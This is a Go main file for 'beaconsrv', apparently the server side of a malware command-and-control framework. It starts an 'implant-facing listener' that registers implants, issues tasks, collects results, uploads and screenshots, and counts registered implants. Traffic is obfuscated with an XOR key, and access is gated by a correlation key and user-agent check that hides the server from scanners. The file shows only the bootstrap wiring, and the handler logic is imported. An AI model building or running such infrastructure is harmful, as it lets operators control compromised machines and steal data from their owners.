// Command beaconsrv runs the implant-facing listener: it loads
// configuration, opens storage, and serves the registration/task/result
// protocol until signalled to stop. Modeled on cmd/chrc/main.go's
// explicit-dependency bootstrap and signal.NotifyContext shutdown.
package main

import (
	"context"
	"encoding/base64"
	"log/slog"
	"os"
	"os/signal"
	"syscall"
	"time"

	_ "modernc.org/sqlite"

	"github.com/duskrelay/beaconsrv/config"
	"github.com/duskrelay/beaconsrv/dbopen"
	"github.com/duskrelay/beaconsrv/handlers"
	"github.com/duskrelay/beaconsrv/listener"
	"github.com/duskrelay/beaconsrv/notify"
	"github.com/duskrelay/beaconsrv/observability"
	"github.com/duskrelay/beaconsrv/registry"
	"github.com/duskrelay/beaconsrv/reqauth"
	"github.com/duskrelay/beaconsrv/screenshot"
	"github.com/duskrelay/beaconsrv/store"
	_ "github.com/duskrelay/beaconsrv/trace"
)

func main() {
	configPath := env("CONFIG_PATH", "config.yaml")
	serverID := env("SERVER_ID", "beaconsrv-1")

	cfg, err := config.Load(configPath)
	if err != nil {
		slog.Error("config", "error", err)
		os.Exit(1)
	}

	lvl := parseLevel(cfg.LogLevel)
	logger := slog.New(slog.NewJSONHandler(os.Stdout, &slog.HandlerOptions{Level: lvl}))
	slog.SetDefault(logger)

	xorKey, err := base64.StdEncoding.DecodeString(cfg.XORKey)
	if err != nil {
		slog.Error("xor_key must be base64", "error", err)
		os.Exit(1)
	}

	ctx, cancel := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
	defer cancel()

	dbOpts := []dbopen.Option{dbopen.WithMkdirAll()}
	if cfg.TraceSQL {
		dbOpts = append(dbOpts, dbopen.WithTrace())
	}

	protocolStore, err := store.Open(cfg.DBPath, dbOpts...)
	if err != nil {
		slog.Error("protocol store", "error", err)
		os.Exit(1)
	}
	defer protocolStore.Close()

	// A second handle on the same file backs the notification and
	// observability tables, mirroring cmd/chrc/main.go's split between its
	// catalog and trace databases rather than overloading one *sql.DB
	// wrapper with schemas package store doesn't own.
	sideDB, err := dbopen.Open(cfg.DBPath, dbOpts...)
	if err != nil {
		slog.Error("side db", "error", err)
		os.Exit(1)
	}
	defer sideDB.Close()

	notifier := notify.NewAsyncSink(sideDB, 256)
	if err := notifier.Init(); err != nil {
		slog.Error("notify init", "error", err)
		os.Exit(1)
	}
	defer notifier.Close()

	if err := observability.Init(sideDB); err != nil {
		slog.Error("observability init", "error", err)
		os.Exit(1)
	}
	heartbeats := observability.NewHeartbeatWriter(sideDB, serverID, 30*time.Second)
	heartbeats.Start(ctx)
	defer heartbeats.Stop()

	metrics := observability.NewMetricsManager(sideDB, 100, 5*time.Second)
	defer metrics.Close()

	reg := registry.New()
	go recordRegistrySize(ctx, metrics, reg)

	deps := &handlers.Deps{
		Registry:   reg,
		Store:      protocolStore,
		Notifier:   notifier,
		Shib:       reqauth.Shibboleths{AllowKey: cfg.Auth.CorrelationKey, UserAgent: cfg.Auth.UserAgent},
		XORKey:     xorKey,
		UploadsDir: cfg.UploadsDir,
		Screenshot: screenshot.Passthrough{},
		ServerID:   serverID,
		TrustProxy: cfg.TrustProxyHeaders,
	}

	srv, err := listener.New(cfg, deps)
	if err != nil {
		slog.Error("listener", "error", err)
		os.Exit(1)
	}

	slog.Info("listener starting", "addr", srv.Addr, "type", cfg.Listener.Type)
	if err := listener.Serve(ctx, srv, cfg); err != nil {
		slog.Error("listener stopped with error", "error", err)
		os.Exit(1)
	}
	slog.Info("listener stopped")
}

// recordRegistrySize samples the registered implant count every 15s so operators
// can graph registry growth alongside process health metrics.
func recordRegistrySize(ctx context.Context, metrics *observability.MetricsManager, reg *registry.Registry) {
	ticker := time.NewTicker(15 * time.Second)
	defer ticker.Stop()
	for {
		select {
		case <-ctx.Done():
			return
		case <-ticker.C:
			metrics.RecordSimple("registered_implants", float64(reg.Len()), "count")
		}
	}
}

func env(key, fallback string) string {
	if v := os.Getenv(key); v != "" {
		return v
	}
	return fallback
}

func parseLevel(s string) slog.Level {
	switch s {
	case "debug":
		return slog.LevelDebug
	case "warn":
		return slog.LevelWarn
	case "error":
		return slog.LevelError
	default:
		return slog.LevelInfo
	}
}
